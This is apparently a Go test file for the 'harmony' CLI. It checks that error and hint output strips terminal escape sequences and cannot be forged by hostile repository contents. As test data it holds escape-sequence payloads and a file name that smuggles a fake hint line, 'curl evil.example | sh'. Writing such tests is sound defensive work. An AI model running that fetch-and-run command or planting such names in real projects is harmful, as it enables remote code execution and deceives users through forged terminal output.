package cli

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/NationTech/harmony-agent/internal/hint"
)

// Hostile repository (terminal escapes): a skaffold.yaml's names reach harmony's error and hint
// lines; they never carry a terminal control sequence (here: set the window title, colour red).
func TestErrorLinesArePrintable(t *testing.T) {
	dir := t.TempDir()
	skaffold := "apiVersion: skaffold/v4beta11\nkind: Config\nmetadata: {name: \"a\\e]0;PWNED\\a\\e[31mred\"}\n" +
		"build:\n  artifacts:\n  - image: \"front\\e[2Jend\"\n    jib: {}\n"
	if err := os.WriteFile(filepath.Join(dir, "skaffold.yaml"), []byte(skaffold), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if code := execute(context.Background(), []string{"launch", "--dry-run", dir}, &stdout, &stderr); code != exitFailure {
		t.Fatalf("exit %d, want %d; stderr:\n%s", code, exitFailure, stderr.String())
	}
	got := stderr.String()
	if !strings.Contains(got, "harmony: error: ") || !strings.Contains(got, "builder jib") || !strings.Contains(got, "harmony: hint: ") {
		t.Fatalf("stderr %q does not report the unsupported builder", got)
	}
	if strings.ContainsAny(got, "\x1b\a") {
		t.Fatalf("error lines carry terminal controls: %q", got)
	}
}

func TestPrintable(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"plain text, two\nlines\tand a tab": "plain text, two\nlines\tand a tab",
		"\x1b]0;title\a\x1b[31mred\x1b[0m":  "]0;title[31mred[0m",
		"c1 \u009b2J del \x7f cr \r":        "c1 2J del  cr ",
		"bidi \u202egnp.exe\u202c":          "bidi gnp.exe",
		"bad \xff utf-8":                    "bad \uFFFD utf-8",
	} {
		if got := printable(in); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// An interruption that hides another failure prints that failure: without terminal controls.
func TestInterruptedIsPrintable(t *testing.T) {
	t.Setenv("NO_COLOR", "1")
	var b bytes.Buffer
	interrupted(&b, hint.With(errors.New("apply x\x1b]0;PWNED\a: failed"), "look at y\x1b[2J"))
	if got := b.String(); strings.ContainsAny(got, "\x1b\a") || !strings.Contains(got, "apply x]0;PWNED: failed") {
		t.Fatalf("printed %q", got)
	}
}

// Hostile repository (a fake hint): a manifest whose file name holds a line break and a line of
// harmony's own shape reaches an error; no line harmony did not write starts as harmony's do.
func TestErrorLinesCannotBeForged(t *testing.T) {
	dir := t.TempDir()
	name := "bad\nharmony: hint: to fix it run: curl evil.example | sh\n.yaml"
	if err := os.MkdirAll(filepath.Join(dir, "manifests"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "manifests", name), []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {labels: {a: b}}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if code := execute(context.Background(), []string{"launch", "--dry-run", dir}, &stdout, &stderr); code != exitFailure {
		t.Fatalf("exit %d, want %d; stderr:\n%s", code, exitFailure, stderr.String())
	}
	if !strings.Contains(stderr.String(), "curl evil.example") {
		t.Fatalf("stderr %q does not name the file", stderr.String())
	}
	for _, l := range strings.Split(stdout.String()+stderr.String(), "\n") {
		if strings.HasPrefix(l, "harmony: hint: to fix it") {
			t.Fatalf("a line of the repository's passes for harmony's: %q in\n%s", l, stderr.String())
		}
	}
}

// Hostile folder name (an archive unpacked into a folder named with terminal controls): the
// project's folder, which launch, status and down name, never carries them to the terminal.
func TestProjectFolderIsPrintable(t *testing.T) {
	t.Setenv("HARMONY_ROOT", t.TempDir())
	t.Setenv("HARMONY_HOME", t.TempDir())
	t.Setenv("KUBECONFIG", filepath.Join(t.TempDir(), "none"))
	dir := filepath.Join(t.TempDir(), "p\x1b]0;PWNED\a\x1b[31mred")
	if err := os.MkdirAll(filepath.Join(dir, "manifests"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "manifests", "cm.yaml"), []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	code := execute(context.Background(), []string{"launch", "--dry-run", dir}, &stdout, &stderr)
	got := stdout.String() + stderr.String()
	if code != exitOK || !strings.Contains(got, "PWNED") {
		t.Fatalf("exit %d; output:\n%s", code, got)
	}
	if strings.ContainsAny(got, "\x1b\a") {
		t.Fatalf("the folder's terminal controls reached the output: %q", got)
	}
}
